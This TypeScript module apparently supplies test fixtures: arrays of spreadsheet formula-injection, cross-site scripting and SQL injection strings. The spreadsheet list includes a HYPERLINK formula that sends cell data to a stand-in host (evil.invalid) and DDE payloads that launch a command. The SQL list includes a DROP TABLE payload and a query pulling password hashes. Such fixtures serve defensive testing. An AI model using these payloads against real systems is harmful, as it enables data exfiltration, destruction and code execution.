/** Texts that a spreadsheet would run as formulas, if it took them for such. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.invalid?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1\r\n=2+2",
  "＝1+1",
  "＠SUM(1)",
  '";=1+1;"',
];

/** Texts that a page would run, in one of the places a text may stand in: markup, attribute, address, script, style, template. */
export const MARKUP = [
  "<script>window.pwned=1</script>",
  '"><img src=x onerror="window.pwned=1">',
  "'><svg/onload=window.pwned=1>",
  "</title><script>window.pwned=1</script>",
  "</script><script>window.pwned=1</script>",
  "<!--><iframe srcdoc='<script>parent.pwned=1</script>'>",
  "javascript:window.pwned=1//",
  '" autofocus onfocus="window.pwned=1" x="',
  "{{constructor.constructor('window.pwned=1')()}}#{window.pwned=1}",
  "<math><mtext></p><style><img src onerror=window.pwned=1>",
  "\u2028</textarea><body onload=window.pwned=1>",
  "<a href='javascript:window.pwned=1'>klikk</a>",
];

/** Texts that would change a statement, if they became part of one. */
export const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE measurement; --",
  '\') UNION SELECT password_hash FROM "user" --',
  "1; SELECT pg_sleep(5)",
  "' || (SELECT pg_sleep(5)) || '",
  "$1",
  "%' --",
  "\\'; SELECT 1; --",
  "x'::jsonb @? '$.a",
  "a_b%c\\",
];
